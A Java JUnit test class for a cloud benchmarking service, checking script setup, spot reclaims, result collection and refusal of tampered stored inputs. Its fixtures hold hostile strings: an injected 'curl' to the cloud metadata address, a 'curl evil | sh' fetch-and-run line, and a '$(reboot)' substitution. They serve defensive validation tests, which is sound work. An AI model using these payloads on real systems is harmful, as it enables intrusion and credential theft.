package dev.cloudbench.core.service;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.cloudbench.core.error.BadInputException;
import dev.cloudbench.core.error.InstanceInterruptedException;
import dev.cloudbench.core.json.InputReader;
import dev.cloudbench.core.layout.StoreLayout;
import dev.cloudbench.core.port.CommandStatus;
import dev.cloudbench.core.port.InstanceStatus;
import dev.cloudbench.core.port.LaunchSpec;
import dev.cloudbench.core.port.LaunchedInstance;
import dev.cloudbench.core.run.RunPlan;
import dev.cloudbench.core.run.StepError;
import dev.cloudbench.core.run.TargetOutcome;
import dev.cloudbench.core.run.TargetState;
import dev.cloudbench.core.testing.FakeCapacity;
import dev.cloudbench.core.testing.FakeFleet;
import dev.cloudbench.core.testing.FakeShell;
import dev.cloudbench.core.testing.InMemoryStore;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** What the benchmark tasks trust of what an instance, or anyone with the store, wrote. */
class BenchmarkServiceBoundaryTest {
    private static final Instant NOW = Instant.parse("2026-11-27T12:00:00Z");
    private static final String EXPORT = "{\"results\":[{\"command\":\"true\",\"times\":[0.1,0.2]}]}";
    private final InMemoryStore store = new InMemoryStore();
    private final FakeShell shell = new FakeShell();
    private final FakeFleet fleet = new FakeFleet();
    private final Clock clock = Clock.fixed(NOW, ZoneOffset.UTC);
    private TargetState state;
    private String target;

    @BeforeEach
    void planAndStart() {
        RunPlan plan = new PlanService(store, clock, () -> "abcd", FakeCapacity.usual()).plan(InputReader.request("""
                {"runId":"r1","suite":{"name":"s","benchmarks":[
                  {"name":"first","command":"true"},{"name":"second","command":"true"}]},
                 "targets":[{"architecture":"x86_64","instanceType":"c7i.large"}]}"""), null);
        target = plan.targets().get(0).targetId();
        TargetState launched = TargetState.start(plan.runId(), plan.deadline(), plan.targets().get(0))
                .withInstance(new LaunchedInstance("i-1", "spot", "zone-a", "ami-1", false, null, 0.0357));
        fleet.live.put("i-1", new LaunchSpec("r1", target, "x86_64", "c7i.large", "spot", null, "ami-1",
                NOW.plusSeconds(3600), 0));
        state = service().start(launched);
    }

    private BenchmarkService service() {
        return new BenchmarkService(shell, fleet, store, clock);
    }

    @Test
    void start_pointsTheScriptAndTheCommandOutputAtTheInstancesInbox() {
        assertThat(shell.scripts.get(0)).contains("CB_PREFIX='inbox/local:i-1/'").doesNotContain("runs/r1");
        assertThat(shell.logPrefixes).containsExactly("inbox/local:i-1/logs/");
    }

    @Test
    void check_seesASpotReclaim_whileTheCommandStillSaysRunning_andKeepsWhatWasUploaded() {
        store.putText(store.inbox("i-1") + "raw/first.json", EXPORT);
        shell.status = new CommandStatus(CommandStatus.State.RUNNING, null, "");
        fleet.status = new InstanceStatus(InstanceStatus.State.INTERRUPTED, "spot instance reclaimed"
                + " (Server.SpotInstanceTermination)");

        assertThatThrownBy(() -> service().check(state)).isInstanceOf(InstanceInterruptedException.class)
                .hasMessageContaining("Server.SpotInstanceTermination");
        assertThat(store.text(StoreLayout.raw("r1", target, "first"))).isEqualTo(EXPORT);
    }

    @Test
    void check_copiesTheInbox_whenTheCommandEnds() {
        store.putText(store.inbox("i-1") + "raw/first.json", EXPORT);
        store.putText(store.inbox("i-1") + "raw/second.json", EXPORT);
        shell.status = new CommandStatus(CommandStatus.State.SUCCEEDED, 0, "");

        assertThat(service().check(state).done()).isTrue();
        assertThat(service().collect(state).finishedAt()).isEqualTo(NOW.toString());
    }

    @Test
    void aTamperedRequest_isRefusedInOneLine_beforeAnyScriptIsMade() {
        store.putText(StoreLayout.request("r1"), """
                {"runId":"r1","suite":{"name":"s","benchmarks":[{"name":"x'; curl -s 169.254.169.254 #","command":"true"}]},
                 "targets":[{"id":"t","architecture":"x86_64","instanceType":"c7i.large"}]}""");
        int before = shell.scripts.size();

        assertThatThrownBy(() -> service().start(state.withInstance(new LaunchedInstance("i-2", "on-demand", "zone-a",
                "ami-1", false, null, 0.05)))).isInstanceOf(BadInputException.class)
                .hasMessageStartingWith("runs/r1/request.json fails validation: ")
                .satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n"));
        assertThat(shell.scripts).hasSize(before);
    }

    @Test
    void aRequestThatIsNoLongerJson_isRefusedInOneLine() {
        store.putText(StoreLayout.request("r1"), "#!/bin/sh\ncurl evil | sh");
        assertThatThrownBy(() -> service().collect(state)).isInstanceOf(BadInputException.class)
                .hasMessageStartingWith("runs/r1/request.json: not a run request any more")
                .satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n"));
    }

    @Test
    void aTamperedCommandRecord_isRefusedInOneLine() {
        store.putText(StoreLayout.command("r1", target),
                "{\"instanceId\":\"i-1\",\"commandId\":\"$(reboot)\",\"startedAt\":\"" + NOW + "\"}");
        assertThatThrownBy(() -> service().start(state.withInstance(state.instance())))
                .isInstanceOf(BadInputException.class)
                .hasMessage(StoreLayout.command("r1", target) + ": instance or command id is missing or not an id");
    }

    @Test
    void terminateAfterFailure_copiesTheInbox_soPartialResultsSurvive() {
        store.putText(store.inbox("i-1") + "raw/first.json", EXPORT);
        store.putText(store.inbox("i-1") + "env/nproc.txt", "4\n");
        TargetEndService ends = new TargetEndService(new InstanceService(fleet, shell, null, clock), service(), store, clock);
        TargetState failed = new TargetState(state.runId(), state.deadline(), state.target(), state.instance(), true,
                state.commandId(), false, null, 3, state.startedAt(), null,
                new StepError("States.Timeout", "Check Benchmark timed out"), "Check Benchmark", 0, null, null, null, null);

        TargetOutcome outcome = ends.failed(failed);

        assertThat(outcome.status()).isEqualTo(TargetOutcome.FAILED);
        assertThat(store.text(StoreLayout.raw("r1", target, "first"))).isEqualTo(EXPORT);
        assertThat(store.text(StoreLayout.environment("r1", target))).contains("\"cores\" : 4");
    }
}
